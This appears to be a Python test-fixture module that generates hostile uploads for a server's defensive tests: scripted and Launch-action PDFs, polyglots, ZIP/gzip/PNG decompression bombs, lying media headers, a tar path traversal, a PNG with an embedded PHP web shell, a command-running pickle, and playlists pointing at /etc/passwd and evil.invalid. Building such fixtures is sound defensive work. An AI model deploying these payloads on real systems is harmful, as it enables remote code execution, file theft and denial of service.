"""Documents, pictures, sound and other types that mean harm, and text files whose reader is a language."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import tarfile
import zlib
from collections.abc import Callable

from tests.attacks.hostile_zips import bomb, pack

_MIB = 1024 * 1024
_TAIL = b"trailer\n<<>>\n%%EOF\n"
Plain = Callable[[], bytes]


def pdf(body: bytes = b"<<>>", after: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\n" + _TAIL + after


def _packed_objects(inside: bytes, before: bytes = b"") -> bytes:
    stream = zlib.compress(inside)
    return pdf(
        before
        + b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
        + stream
        + b"\nendstream"
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int = 8,
    height: int = 8,
    *,
    rows: bytes | None = None,
    more: bytes = b"",
    end: bool = True,
) -> bytes:
    """A grey PNG; `rows` is what stands packed in it."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = zlib.compress(bytes((width + 1) * height) if rows is None else rows, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + more
        + _chunk(b"IDAT", body)
        + (_chunk(b"IEND", b"") if end else b"")
    )


def jpeg(width: int, height: int) -> bytes:
    """A JPEG by its headers (ITU-T T.81, B.2): quantisation, frame, scan, and no picture."""
    table = b"\xff\xdb\x00\x43\x00" + bytes([1] * 64)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    codes = b"\xff\xc4\x00\x14\x00" + bytes([1] + [0] * 15) + b"\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + table + frame + codes + scan + b"\x00" * 9 + b"\xff\xd9"


def noise(count: int) -> bytes:
    return hashlib.shake_256(b"noise").digest(count)


PDFS: dict[str, Plain] = {
    "script": lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "script, name in hex": lambda: pdf(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"),
    "script in packed objects": lambda: _packed_objects(b"<< /S /JavaScript /JS (1) >>"),
    "script behind 70 MiB of packed objects": lambda: _packed_objects(bytes(8 * _MIB), b"") [:-len(_TAIL)] + b"".join(_packed_objects(bytes(8 * _MIB))[9:-len(_TAIL)] for _ in range(9)) + _packed_objects(b"<< /S /JavaScript >>")[9:],
    "launch": lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "launch in Windows' words": lambda: pdf(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "file inside": lambda: pdf(b"<< /Type /Filespec /EF << /F 2 0 R >> >>\nendobj\n2 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream"),
    "encrypted": lambda: pdf(b"<< /Encrypt 5 0 R >>"),
    "only a head": lambda: b"%PDF-1.7\n",
    "cut in half": lambda: pdf(b"<< >>" * 9999)[:20_000],
    "end long before the end": lambda: pdf() + bytes(99_999),
    "also a ZIP": lambda: pdf(after=pack({"evil.jar": b"x"})),
    "also a ZIP, end repeated": lambda: pdf(after=pack({"a.js": b"x"}) + b"\n%%EOF"),
    "form that sends itself": lambda: pdf(b"<< /S /SubmitForm /F (http://evil.invalid) >>"),
    "rich media": lambda: pdf(b"<< /Subtype /RichMedia /RichMediaContent 2 0 R >>"),
    "XFA form": lambda: pdf(b"<< /AcroForm << /XFA 7 0 R >> >>"),
    "opens another file": lambda: pdf(b"<< /S /GoToE /F (//evil.invalid/share) >>"),
    "imports data": lambda: pdf(b"<< /S /ImportData /F (//evil.invalid/x.fdf) >>"),
    "packed bomb in objects": lambda: _packed_objects(bytes(150 * _MIB)),
    "1000 packed bombs": lambda: b"%PDF-1.7\n" + _packed_objects(bytes(8 * _MIB))[9:-len(_TAIL)] * 1000 + _TAIL,
    "ten thousand ObjStm without a stream": lambda: pdf(b"/ObjStm " * 10_000),
    "hex names without end": lambda: pdf(b"/" + b"a#41" * 200_000),
    "HTML called PDF": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "HTML behind a head of PDF": lambda: b"<html><script>%PDF-1.7",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
}  # fmt: skip

PICTURES: dict[str, Plain] = {
    "PNG of 60000 x 60000": lambda: png(60_000, 60_000, rows=bytes(99)),
    "PNG of 2^31 x 2^31": lambda: png(0x7FFFFFFF, 0x7FFFFFFF, rows=bytes(99)),
    "PNG of 0 x 0": lambda: png(0, 0, rows=b""),
    "PNG of 1 x 2^31": lambda: png(1, 0x7FFFFFFF, rows=bytes(99)),
    "PNG with 200 MiB packed": lambda: png(8, 8, rows=bytes(200 * _MIB)),
    "PNG whose text unpacks to 100 MiB": lambda: png(more=_chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(100 * _MIB), 9))),
    "PNG whose profile unpacks to 100 MiB": lambda: png(more=_chunk(b"iCCP", b"x\x00\x00" + zlib.compress(bytes(100 * _MIB), 9))),
    "PNG of a million chunks": lambda: png(more=_chunk(b"tEXt", b"a\x00b") * 300_000),
    "PNG cut": lambda: png(300, 300)[:60],
    "PNG without its end": lambda: png(end=False),
    "PNG with a wrong CRC": lambda: png().replace(b"IDAT", b"IDAU"),
    "PNG of head only": lambda: b"\x89PNG\r\n\x1a\n",
    "PNG with script behind": lambda: png() + b"<script>alert(1)</script>",
    "PNG with PHP in its text": lambda: png(more=_chunk(b"tEXt", b"c\x00<?php system($_GET[0]);")),
    "PNG with a ZIP behind": lambda: png() + pack({"a.jar": b"x"}),
    "PNG with a PDF behind": lambda: png() + pdf(),
    "PNG with SVG inside": lambda: png(more=_chunk(b"tEXt", b"c\x00<svg onload=alert(1)>")),
    "JPEG of 64k x 64k": lambda: jpeg(65_535, 65_535),
    "JPEG of 0 x 0": lambda: jpeg(0, 0),
    "JPEG with nothing in it": lambda: b"\xff\xd8\xff\xd9",
    "JPEG cut in its frame": lambda: jpeg(100, 100)[:80],
    "JPEG of head and noise": lambda: b"\xff\xd8\xff\xe0" + noise(50_000),
    "JPEG whose EXIF runs in a ring": lambda: b"\xff\xd8\xff\xe1\x00\x22Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00" + bytes(8) + jpeg(65_000, 65_000)[2:],
    "WebP that says it is huge": lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8X" + struct.pack("<I", 10) + bytes([0x10]) + bytes(3) + b"\xff" * 6,
    "WebP of head only": lambda: b"RIFF\x04\x00\x00\x00WEBP",
    "GIF that is a script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//",
    "BMP": lambda: b"BM" + bytes(60),
    "TIFF": lambda: b"II*\x00\x08\x00\x00\x00" + b"\xff" * 99,
    "SVG with script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
    "SVG behind a mark": lambda: b'\xef\xbb\xbf<?xml version="1.0"?><svg><script>1</script></svg>',
    "SVG in UTF-16": lambda: "<svg><script>1</script></svg>".encode("utf-16"),
    "ICO": lambda: b"\x00\x00\x01\x00\x01\x00" + bytes(20),
    "PSD": lambda: b"8BPS\x00\x01" + bytes(6) + b"\x00\x38" + b"\x7f" * 8,
    "EPS": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n",
    "Macintosh picture": lambda: bytes(512) + b"\x00\x11\x02\xff",
}  # fmt: skip

_WAV = b"RIFF%bWAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x80\x3e\x00\x00\x02\x00\x10\x00data%b"
_EBML = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"
SOUNDS: dict[str, Plain] = {
    "WAV with a page in its text": lambda: _WAV % (b"\xff" * 4, b"\x00" * 4) + b"<html><script>alert(1)</script>",
    "WebM with a page in its text": lambda: _EBML + b"<script>alert(1)</script>" + bytes(99),
    "MP3 with a page in its title": lambda: b"ID3\x04\x00\x00\x00\x00\x0f\x76TIT2" + b"<script>alert(1)</script>" + bytes(99),
    "Ogg with a PDF in it": lambda: b"OggS\x00\x02" + bytes(22) + pdf(b"<< /S /JavaScript >>"),
    "MP4 that is a page": lambda: b"\x00\x00\x00\x18ftypisom" + b"<html><iframe src=//evil.invalid>" + bytes(40),
    "Matroska that is no WebM": lambda: _EBML.replace(b"webm", b"matr") + bytes(99),
    "AVI": lambda: b"RIFF\x00\x10\x00\x00AVI LIST" + bytes(99),
    "MIDI": lambda: b"MThd\x00\x00\x00\x06" + bytes(99),
    "FLV": lambda: b"FLV\x01\x05\x00\x00\x00\x09" + bytes(99),
    "playlist": lambda: b"#EXTM3U\nfile:///etc/passwd\n",
    "play list of a stream": lambda: b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.invalid|file:///etc/passwd\n",
    "AU": lambda: b".snd" + b"\xff" * 40,
    "AMR": lambda: b"#!AMR\n" + bytes(99),
    "RealMedia": lambda: b".RMF\x00\x00\x00\x12" + bytes(99),
    "Windows Media": lambda: bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + bytes(99),
    "only the word RIFF": lambda: b"RIFF",
    "only a mark of EBML": lambda: b"\x1aE\xdf\xa3",
    "only OggS": lambda: b"OggS",
}  # fmt: skip
# Their sizes lie; the server never decodes sound, so they are kept as the bytes that they are.
LYING: dict[str, Plain] = {
    "WAV that says 4 GiB": lambda: _WAV % (b"\xff" * 4, b"\xff" * 4) + bytes(100),
    "WAV that says nothing": lambda: _WAV % (b"\x00" * 4, b"\x00" * 4),
    "WebM with an endless element": lambda: _EBML + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + bytes(50),
    "Opus whose page says 255 segments": lambda: b"OggS\x00\x02" + bytes(20) + b"\xff" + b"\xff" * 30 + b"OpusHead",
    "MP4 whose box is larger than all": lambda: b"\x7f\xff\xff\xffftypM4A " + bytes(99),
    "MP3 whose tag is 256 MiB": lambda: b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(99),
}  # fmt: skip


def _tar(name: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo(name))
    return out.getvalue()


# What no door takes, under whatever name.
WRONG: dict[str, Plain] = {
    "nothing": lambda: b"",
    "NUL bytes": lambda: bytes(5000),
    "noise": lambda: b"\x8f" + noise(5000),
    "Windows program": lambda: b"MZ" + noise(3000),
    "Linux program": lambda: b"\x7fELF\x02\x01\x01" + noise(3000),
    "Java class": lambda: b"\xca\xfe\xba\xbe" + noise(300),
    "old Office file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "RTF with an object": lambda: b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}",
    "RAR": lambda: b"Rar!\x1a\x07\x01\x00" + noise(300),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + noise(300),
    "gzip bomb": lambda: gzip.compress(bytes(100 * _MIB), 9, mtime=0),
    "tar that leaves its place": lambda: _tar("../../evil"),
    "ZIP of a program": lambda: pack({"setup.exe": b"MZ"}),
    "ZIP bomb of 250 MiB": lambda: bomb(250),
    "SQLite database": lambda: b"SQLite format 3\x00" + bytes(2000),
    "page with script": lambda: b"<html><body onload=alert(1)>",
    "shortcut of Windows": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200),
    "compiled help": lambda: b"ITSF\x03\x00\x00\x00" + bytes(200),
    "disk image": lambda: bytes(32769) + b"CD001" + bytes(5000),
    "pickle": lambda: b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
}  # fmt: skip
